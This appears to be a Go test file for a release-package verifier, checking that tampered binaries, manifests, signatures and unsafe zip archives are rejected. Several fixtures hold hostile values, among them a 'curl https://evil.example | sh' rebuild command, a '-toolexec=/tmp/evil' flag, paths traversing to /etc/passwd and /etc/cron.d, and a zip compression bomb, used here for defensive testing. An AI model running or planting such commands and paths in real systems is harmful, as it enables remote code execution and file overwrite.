package verify_test

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/cavra/cavra/internal/testrelease"
	"github.com/cavra/cavra/packaging/format/archive"
	"github.com/cavra/cavra/packaging/format/build"
	"github.com/cavra/cavra/packaging/format/checksums"
	"github.com/cavra/cavra/packaging/format/layout"
	"github.com/cavra/cavra/packaging/format/manifest"
	"github.com/cavra/cavra/packaging/verify"
)

func TestMain(m *testing.M) { os.Exit(testrelease.Main(m)) }

// pkg returns a package of all six targets, released once for the tests of
// this package. Tests must copy it before changing anything.
func pkg(t *testing.T) *testrelease.Package {
	return testrelease.Shared(t, "six", testrelease.Options{})
}

func TestReleasePasses(t *testing.T) {
	p := pkg(t)
	for _, tc := range []struct {
		name string
		run  func(string, verify.Options) (*verify.Report, *verify.Package, error)
		in   string
	}{
		{"folder", verify.Dir, p.Dir},
		{"zip", verify.Zip, p.Zip},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rep, pk, err := tc.run(tc.in, verify.Options{Key: p.Key})
			if err != nil {
				t.Fatal(err)
			}
			if !rep.OK() || rep.Failed != 0 || rep.Skipped != 0 {
				var b bytes.Buffer
				rep.WriteText(&b)
				t.Fatalf("got %s with %d failed, %d skipped, want PASS:\n%s", rep.Status, rep.Failed, rep.Skipped, b.String())
			}
			if rep.Version != p.Version || !rep.Snapshot {
				t.Errorf("got version %q snapshot %v, want %q snapshot true", rep.Version, rep.Snapshot, p.Version)
			}
			if pk.Manifest == nil || len(pk.Manifest.Binaries) != 6 {
				t.Fatalf("got manifest %+v, want six binaries", pk.Manifest)
			}
			// Every binary is checked three ways.
			for _, b := range pk.Manifest.Binaries {
				for _, check := range []string{"binary", "buildinfo", "rebuild-command"} {
					if !has(rep, verify.Pass, check, b.Binary, "") {
						t.Errorf("no PASS %s for %s", check, b.Binary)
					}
				}
			}
			// Both SBOMs pass every NTIA element and BSI requirement, for
			// the document and each component: the release, 6 binaries,
			// 6 Linux packages, the source archive, and the main module
			// and stdlib of each binary.
			for _, f := range []string{layout.SPDX, layout.CycloneDX} {
				for _, check := range []string{"sbom.ntia", "sbom.bsi"} {
					if !has(rep, verify.Pass, check, f, "for the document and 26 components") {
						t.Errorf("no PASS %s for %s", check, f)
					}
				}
			}
			if len(rep.SBOMCompliance) != 2 {
				t.Fatalf("got %d SBOM compliance reports, want 2", len(rep.SBOMCompliance))
			}
			for _, c := range rep.SBOMCompliance {
				if !c.OK() || len(c.Components) != 26 {
					t.Errorf("%s: got OK %v with %d components, want 26: %q", c.File, c.OK(), len(c.Components), c.Failures(""))
				}
			}
			var js bytes.Buffer
			if err := rep.WriteJSON(&js); err != nil {
				t.Fatal(err)
			}
			var back verify.Report
			if err := json.Unmarshal(js.Bytes(), &back); err != nil || back.Status != verify.Pass || len(back.Checks) != len(rep.Checks) {
				t.Fatalf("JSON report does not round-trip: %v %s", err, js.String())
			}
		})
	}
}

// has reports whether rep holds a check with that status, name, file and a
// detail containing detail.
func has(rep *verify.Report, st verify.Status, check, file, detail string) bool {
	for _, c := range rep.Checks {
		if c.Status == st && c.Name == check && (file == "" || c.File == file) && strings.Contains(c.Detail, detail) {
			return true
		}
	}
	return false
}

func sum(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// rehash rewrites checksums.txt with the true digest of every file it lists
// and of the extra files: what an attacker who changed files does so that
// `sha256sum -c` still passes.
func rehash(t *testing.T, dir string, extra ...string) {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(dir, checksums.Name))
	if err != nil {
		t.Fatal(err)
	}
	lines, err := checksums.Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	var out []checksums.Line
	for _, l := range lines {
		b, err := os.ReadFile(filepath.Join(dir, l.Path))
		if os.IsNotExist(err) {
			continue
		}
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, checksums.Line{Path: l.Path, SHA256: sum(b)})
	}
	for _, p := range extra {
		b, err := os.ReadFile(filepath.Join(dir, p))
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, checksums.Line{Path: p, SHA256: sum(b)})
	}
	b, err := checksums.Format(out)
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, checksums.Name, b)
}

func write(t *testing.T, dir, name string, data []byte) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(dir, name), data, 0o644); err != nil {
		t.Fatal(err)
	}
}

func read(t *testing.T, dir, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(dir, name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// editManifest changes the manifest as generic JSON, then rehashes.
func editManifest(t *testing.T, dir string, edit func(m map[string]any)) {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal(read(t, dir, manifest.Name), &m); err != nil {
		t.Fatal(err)
	}
	edit(m)
	b, err := json.MarshalIndent(m, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, manifest.Name, b)
	rehash(t, dir)
}

func binaries(m map[string]any) []any { return m["binaries"].([]any) }

func obj(v any) map[string]any { return v.(map[string]any) }

// setBinary replaces the linux/amd64 binary with data and records it in the
// manifest and checksums, as a careful attacker would.
func setBinary(t *testing.T, dir string, data []byte) {
	t.Helper()
	const name = "bin/linux-amd64/cavra-runtime"
	write(t, dir, name, data)
	editManifest(t, dir, func(m map[string]any) {
		for _, b := range binaries(m) {
			if obj(b)["binary"] == name {
				obj(b)["binary_sha256"] = sum(data)
				obj(b)["size_bytes"] = len(data)
			}
		}
	})
}

// goBuild builds the runtime from the package's test repository with the
// given environment on top of the pinned one.
func goBuild(t *testing.T, p *testrelease.Package, env ...string) []byte {
	t.Helper()
	out := filepath.Join(t.TempDir(), "cavra-runtime")
	cmd := testrelease.GoCommand(t, "build", "-ldflags=-s -w -buildid= -X main.version="+p.Version, "-o", out, "./cmd/cavra-runtime")
	cmd.Dir = p.Repo
	cmd.Env = append(cmd.Env, append([]string{"CGO_ENABLED=0", "GOOS=linux", "GOARCH=amd64", "GOAMD64=v1", "GOFLAGS=-trimpath -mod=readonly -buildvcs=false", "GOTOOLCHAIN=local", "GOWORK=off"}, env...)...)
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, b)
	}
	return read(t, filepath.Dir(out), "cavra-runtime")
}

func TestTamperedPackage(t *testing.T) {
	p := pkg(t)
	const bin = "bin/linux-amd64/cavra-runtime"
	tests := []struct {
		name   string
		tamper func(t *testing.T, dir string)
		check  string // the failing check
		file   string // the file it names
		detail string // part of the reason
	}{
		{"flipped byte in a binary", func(t *testing.T, dir string) {
			b := read(t, dir, bin)
			b[len(b)/2] ^= 1
			write(t, dir, bin, b)
		}, "checksum", bin, "sha256 mismatch"},
		{"binary swapped, checksums.txt rehashed", func(t *testing.T, dir string) {
			b := read(t, dir, bin)
			write(t, dir, bin, append(b, 0))
			rehash(t, dir)
		}, "binary", bin, "sha256 mismatch: manifest records"},
		{"binary built for GOAMD64=v3, manifest and checksums updated", func(t *testing.T, dir string) {
			setBinary(t, dir, goBuild(t, p, "GOAMD64=v3"))
		}, "buildinfo", bin, "setting GOAMD64=v3, want v1"},
		{"binary built without -trimpath, manifest and checksums updated", func(t *testing.T, dir string) {
			setBinary(t, dir, goBuild(t, p, "GOFLAGS=-mod=readonly -buildvcs=false"))
		}, "buildinfo", bin, "setting -trimpath missing"},
		{"binary with VCS stamp, manifest and checksums updated", func(t *testing.T, dir string) {
			setBinary(t, dir, goBuild(t, p, "GOFLAGS=-trimpath -mod=readonly -buildvcs=true"))
		}, "buildinfo", bin, "VCS stamping must be off"},
		{"binary built with cgo, manifest and checksums updated", func(t *testing.T, dir string) {
			if _, err := exec.LookPath("gcc"); err != nil {
				t.Skip("no C compiler")
			}
			setBinary(t, dir, goBuild(t, p, "CGO_ENABLED=1"))
		}, "buildinfo", bin, "setting CGO_ENABLED=1, want 0"},
		{"not a Go binary, manifest and checksums updated", func(t *testing.T, dir string) {
			setBinary(t, dir, []byte("#!/bin/sh\necho pwned\n"))
		}, "buildinfo", bin, "no Go build information"},
		{"unlisted file added", func(t *testing.T, dir string) {
			write(t, dir, "bin/linux-amd64/helper.sh", []byte("#!/bin/sh\n"))
		}, "checksum", "bin/linux-amd64/helper.sh", "not listed in checksums.txt"},
		{"unlisted .sig of an unlisted file", func(t *testing.T, dir string) {
			write(t, dir, "extra.sig", []byte("x"))
		}, "checksum", "extra.sig", "not listed"},
		{"listed file deleted", func(t *testing.T, dir string) {
			os.Remove(filepath.Join(dir, "goproxy/github.com/magefile/mage/@v/list"))
		}, "checksum", "goproxy/github.com/magefile/mage/@v/list", "listed in checksums.txt but missing"},
		{"required binary removed with its checksum and manifest entry", func(t *testing.T, dir string) {
			os.Remove(filepath.Join(dir, "bin/windows-arm64/cavra-runtime.exe"))
			editManifest(t, dir, func(m map[string]any) {
				var keep []any
				for _, b := range binaries(m) {
					if obj(b)["target"] != "windows/arm64" {
						keep = append(keep, b)
					}
				}
				m["binaries"] = keep
			})
		}, "required", "bin/windows-arm64/cavra-runtime.exe", "missing"},
		{"manifest declares five targets", func(t *testing.T, dir string) {
			editManifest(t, dir, func(m map[string]any) { m["targets"] = m["targets"].([]any)[:5] })
		}, "manifest.matrix", manifest.Name, "targets"},
		{"manifest GOFLAGS without -trimpath", func(t *testing.T, dir string) {
			editManifest(t, dir, func(m map[string]any) { obj(obj(m["build"])["env"])["GOFLAGS"] = "-mod=readonly" })
		}, "manifest.build", manifest.Name, "build.env"},
		{"manifest CGO_ENABLED=1", func(t *testing.T, dir string) {
			editManifest(t, dir, func(m map[string]any) { obj(obj(m["build"])["env"])["CGO_ENABLED"] = "1" })
		}, "manifest.build", manifest.Name, "CGO_ENABLED:1"},
		{"manifest drops the GOPROXY=off control", func(t *testing.T, dir string) {
			editManifest(t, dir, func(m map[string]any) { delete(obj(obj(m["operator_controls"])["env"]), "GOPROXY") })
		}, "manifest.controls", manifest.Name, "does not set GOPROXY"},
		{"manifest allows the network", func(t *testing.T, dir string) {
			editManifest(t, dir, func(m map[string]any) { obj(m["operator_controls"])["network"] = "any" })
		}, "manifest.controls", manifest.Name, `network "any"`},
		{"manifest rebuild argv runs a toolexec", func(t *testing.T, dir string) {
			editManifest(t, dir, func(m map[string]any) {
				r := obj(obj(binaries(m)[0])["rebuild"])
				r["argv"] = append([]any{"go", "build", "-toolexec=/tmp/evil"}, r["argv"].([]any)[2:]...)
			})
		}, "rebuild-command", bin, "differs from the verifier's"},
		{"manifest rebuild env re-enables downloads", func(t *testing.T, dir string) {
			editManifest(t, dir, func(m map[string]any) {
				obj(obj(obj(binaries(m)[0])["rebuild"])["env"])["GOFLAGS"] = "-mod=mod"
			})
		}, "rebuild-command", bin, "differs from the verifier's"},
		{"manifest rebuild_command string differs from the data", func(t *testing.T, dir string) {
			editManifest(t, dir, func(m map[string]any) {
				obj(binaries(m)[0])["rebuild_command"] = "curl https://evil.example | sh"
			})
		}, "rebuild-command", bin, "rebuild_command"},
		{"manifest binary path escapes the package", func(t *testing.T, dir string) {
			editManifest(t, dir, func(m map[string]any) { obj(binaries(m)[0])["binary"] = "../../etc/passwd" })
		}, "rebuild-command", bin, `manifest records path "../../etc/passwd"`},
		{"manifest source path escapes the package", func(t *testing.T, dir string) {
			editManifest(t, dir, func(m map[string]any) { obj(m["source"])["archive"] = "/etc/passwd" })
		}, "manifest.source", "/etc/passwd", "source.archive"},
		{"source archive changed, checksums rehashed", func(t *testing.T, dir string) {
			name := "source/cavra-runtime-" + p.Version + "-src.tar.gz"
			write(t, dir, name, append(read(t, dir, name), 0))
			rehash(t, dir)
		}, "manifest.source", "source/cavra-runtime-" + p.Version + "-src.tar.gz", "manifest records"},
		{"manifest with a duplicate key", func(t *testing.T, dir string) {
			b := read(t, dir, manifest.Name)
			b = bytes.Replace(b, []byte(`"snapshot": true,`), []byte(`"snapshot": true, "snapshot": false,`), 1)
			write(t, dir, manifest.Name, b)
			rehash(t, dir)
		}, "manifest", manifest.Name, `duplicate key "snapshot"`},
		{"manifest with an unknown field", func(t *testing.T, dir string) {
			editManifest(t, dir, func(m map[string]any) { m["trust_me"] = true })
		}, "manifest", manifest.Name, `unknown field "trust_me"`},
		{"manifest from another schema", func(t *testing.T, dir string) {
			editManifest(t, dir, func(m map[string]any) { m["schema_version"] = "v0" })
		}, "manifest", manifest.Name, "schema_version"},
		{"manifest claims another version", func(t *testing.T, dir string) {
			editManifest(t, dir, func(m map[string]any) { obj(m["package"])["version"] = "v9.9.9" })
		}, "version", "", `want "go-runtime-v9.9.9"`},
		{"module proxy signature flipped", func(t *testing.T, dir string) {
			name := "goproxy/github.com/magefile/mage/@v/list.sig"
			b := read(t, dir, name)
			b[10] ^= 1
			write(t, dir, name, b)
		}, "signature", "goproxy/github.com/magefile/mage/@v/list.sig", "goproxy/github.com/magefile/mage/@v/list"},
		{"module proxy bundle flipped", func(t *testing.T, dir string) {
			flipBundleSignature(t, dir, "goproxy/github.com/magefile/mage/@v/v1.17.2.zip.sigstore.json")
		}, "signature", "goproxy/github.com/magefile/mage/@v/v1.17.2.zip.sigstore.json", "does not verify"},
		{"binary bundle signature flipped", func(t *testing.T, dir string) {
			flipBundleSignature(t, dir, bin+".sigstore.json")
		}, "signature", bin + ".sigstore.json", "does not verify"},
		{"bundle of another file", func(t *testing.T, dir string) {
			write(t, dir, bin+".sigstore.json", read(t, dir, "checksums.txt.sigstore.json"))
		}, "signature", bin + ".sigstore.json", "for another file"},
		{"bundle removed", func(t *testing.T, dir string) {
			os.Remove(filepath.Join(dir, "checksums.txt.sigstore.json"))
		}, "signature", "checksums.txt.sigstore.json", "missing"},
		{"bundle with a transparency-log entry", func(t *testing.T, dir string) {
			editJSON(t, dir, bin+".sigstore.json", func(m map[string]any) {
				obj(m["verificationMaterial"])["tlogEntries"] = []any{map[string]any{"logIndex": "1"}}
			})
		}, "signature", bin + ".sigstore.json", "transparency-log"},
		{"unlisted bundle of an unlisted file", func(t *testing.T, dir string) {
			write(t, dir, "extra.sigstore.json", read(t, dir, "checksums.txt.sigstore.json"))
		}, "checksum", "extra.sigstore.json", "not listed"},
		{"provenance bundle signature flipped", func(t *testing.T, dir string) {
			editJSON(t, dir, "cavra-runtime.provenance.sigstore.json", func(m map[string]any) {
				s := obj(obj(m["dsseEnvelope"])["signatures"].([]any)[0])
				sig, _ := base64.StdEncoding.DecodeString(s["sig"].(string))
				sig[len(sig)-3] ^= 1
				s["sig"] = base64.StdEncoding.EncodeToString(sig)
			})
		}, "provenance.bundle", "cavra-runtime.provenance.sigstore.json", "does not verify"},
		{"provenance bundle replaced by a blob bundle", func(t *testing.T, dir string) {
			write(t, dir, "cavra-runtime.provenance.sigstore.json", read(t, dir, "checksums.txt.sigstore.json"))
		}, "provenance.bundle", "cavra-runtime.provenance.sigstore.json", "not a DSSE envelope"},
		{"checksums.txt out of order", func(t *testing.T, dir string) {
			b := read(t, dir, checksums.Name)
			lines := strings.SplitAfter(string(b), "\n")
			lines[0], lines[1] = lines[1], lines[0]
			write(t, dir, checksums.Name, []byte(strings.Join(lines, "")))
		}, verify.CheckChecksum, checksums.Name, "out of order"},
		{"checksums.txt binary-mode marker", func(t *testing.T, dir string) {
			b := read(t, dir, checksums.Name)
			write(t, dir, checksums.Name, bytes.Replace(b, []byte("  bin/"), []byte("  *bin/"), 1))
		}, verify.CheckChecksum, checksums.Name, "binary-mode marker"},
	}
	if runtime.GOOS != "windows" {
		tests = append(tests, struct {
			name   string
			tamper func(t *testing.T, dir string)
			check  string
			file   string
			detail string
		}{"symbolic link in the package", func(t *testing.T, dir string) {
			os.Symlink("/etc/passwd", filepath.Join(dir, "passwd"))
		}, "layout", "passwd", "symbolic link"})
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			dir := testrelease.Copy(t, p.Dir, t.TempDir())
			tc.tamper(t, dir)
			rep, _, err := verify.Dir(dir, verify.Options{Key: p.Key})
			if err != nil {
				t.Fatal(err)
			}
			if rep.OK() {
				t.Fatalf("got PASS, want FAIL %s %s", tc.check, tc.file)
			}
			if !has(rep, verify.Fail, tc.check, tc.file, tc.detail) {
				t.Errorf("got failures\n  %s\nwant FAIL %s for %q with %q", strings.Join(rep.Errors(), "\n  "), tc.check, tc.file, tc.detail)
			}
			// The same package, zipped, fails the same way (links cannot be zipped).
			if tc.check == "layout" && tc.file != "" {
				return
			}
			zrep, _, err := verify.Zip(zipDir(t, dir), verify.Options{Key: p.Key})
			if err != nil {
				t.Fatal(err)
			}
			if zrep.OK() || !has(zrep, verify.Fail, tc.check, tc.file, tc.detail) {
				t.Errorf("zip: got failures\n  %s\nwant FAIL %s for %q with %q", strings.Join(zrep.Errors(), "\n  "), tc.check, tc.file, tc.detail)
			}
		})
	}
}

// editJSON rewrites a JSON file of the package (not listed in checksums.txt).
func editJSON(t *testing.T, dir, name string, edit func(m map[string]any)) {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal(read(t, dir, name), &m); err != nil {
		t.Fatal(err)
	}
	edit(m)
	b, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, name, b)
}

// flipBundleSignature flips one bit of the message signature of a bundle.
func flipBundleSignature(t *testing.T, dir, name string) {
	t.Helper()
	editJSON(t, dir, name, func(m map[string]any) {
		ms := obj(m["messageSignature"])
		sig, err := base64.StdEncoding.DecodeString(ms["signature"].(string))
		if err != nil {
			t.Fatal(err)
		}
		sig[len(sig)-3] ^= 1
		ms["signature"] = base64.StdEncoding.EncodeToString(sig)
	})
}

// zipDir zips a package folder the way a release does.
func zipDir(t *testing.T, dir string) string {
	t.Helper()
	var entries []archive.Entry
	top := filepath.Base(dir)
	filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		entries = append(entries, archive.FileEntry(top+"/"+filepath.ToSlash(rel), p, 0o644))
		return nil
	})
	out := filepath.Join(t.TempDir(), "cavra-go-runtime.zip")
	f, err := os.Create(out)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := archive.WriteZip(f, entries, time.Unix(1767323045, 0)); err != nil {
		t.Fatal(err)
	}
	return out
}

func TestUnsafeZip(t *testing.T) {
	p := pkg(t)
	top := "go-runtime-" + p.Version + "/"
	good := read(t, p.Dir, manifest.Name)
	tests := []struct {
		name    string
		entries func(w *zip.Writer)
		entry   string
		reason  string
	}{
		{"escaping name", func(w *zip.Writer) { add(w, top+"../../evil", good, 0o644) }, top + "../../evil", ""},
		{"absolute name", func(w *zip.Writer) { add(w, "/etc/cron.d/evil", good, 0o644) }, "/etc/cron.d/evil", "absolute"},
		{"windows drive name", func(w *zip.Writer) { add(w, `C:\evil.exe`, good, 0o644) }, `C:\evil.exe`, ""},
		{"symbolic link", func(w *zip.Writer) { add(w, top+"link", []byte("/etc/passwd"), os.ModeSymlink|0o777) }, top + "link", "link"},
		{"duplicate name", func(w *zip.Writer) {
			add(w, top+manifest.Name, good, 0o644)
			add(w, top+manifest.Name, good, 0o644)
		}, top + manifest.Name, "duplicate"},
		{"names differing only by case", func(w *zip.Writer) {
			add(w, top+"bin/a", good, 0o644)
			add(w, top+"BIN/a", good, 0o644)
		}, top + "BIN/a", "case"},
		{"second top folder", func(w *zip.Writer) {
			add(w, top+manifest.Name, good, 0o644)
			add(w, "other/"+manifest.Name, good, 0o644)
		}, "other/" + manifest.Name, "top folder"},
		{"compression bomb", func(w *zip.Writer) { add(w, top+"bomb", make([]byte, 300<<20), 0o644) }, top + "bomb", "ratio"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var buf bytes.Buffer
			w := zip.NewWriter(&buf)
			tc.entries(w)
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			path := filepath.Join(t.TempDir(), "bad.zip")
			write(t, filepath.Dir(path), "bad.zip", buf.Bytes())
			before := listTree(t, filepath.Dir(path))
			rep, _, err := verify.Zip(path, verify.Options{})
			if err != nil {
				t.Fatal(err)
			}
			if rep.OK() || !has(rep, verify.Fail, "archive", tc.entry, tc.reason) {
				t.Errorf("got %s\n  %s\nwant FAIL archive %q with %q", rep.Status, strings.Join(rep.Errors(), "\n  "), tc.entry, tc.reason)
			}
			if after := listTree(t, filepath.Dir(path)); after != before {
				t.Errorf("verification wrote files: before %q, after %q", before, after)
			}
		})
	}
}

func add(w *zip.Writer, name string, data []byte, mode os.FileMode) {
	h := &zip.FileHeader{Name: name, Method: zip.Deflate}
	h.SetMode(mode)
	f, err := w.CreateHeader(h)
	if err != nil {
		panic(err)
	}
	f.Write(data)
}

func listTree(t *testing.T, dir string) string {
	var names []string
	filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		names = append(names, p)
		return err
	})
	return strings.Join(names, "\n")
}

func TestOperatorMatrixWins(t *testing.T) {
	// The verifier's matrix comes from the operator: a package whose
	// manifest declares six targets fails a verifier told to expect two,
	// and each extra binary is named.
	p := pkg(t)
	two := []build.Target{{GOOS: "linux", GOARCH: "amd64"}, {GOOS: "darwin", GOARCH: "arm64"}}
	rep, _, err := verify.Dir(p.Dir, verify.Options{Targets: two, Key: p.Key})
	if err != nil {
		t.Fatal(err)
	}
	if rep.OK() {
		t.Fatal("got PASS, want FAIL")
	}
	if !has(rep, verify.Fail, "manifest.matrix", manifest.Name, "want [linux/amd64 darwin/arm64]") {
		t.Errorf("no manifest.matrix failure: %s", strings.Join(rep.Errors(), "\n"))
	}
	if !has(rep, verify.Fail, "binary", "bin/windows-arm64/cavra-runtime.exe", "not in the verifier's matrix") {
		t.Errorf("no failure for the extra windows/arm64 binary: %s", strings.Join(rep.Errors(), "\n"))
	}
}

func targets(list ...string) []build.Target {
	var out []build.Target
	for _, s := range list {
		t, err := build.ParseTarget(s)
		if err != nil {
			panic(err)
		}
		out = append(out, t)
	}
	return out
}
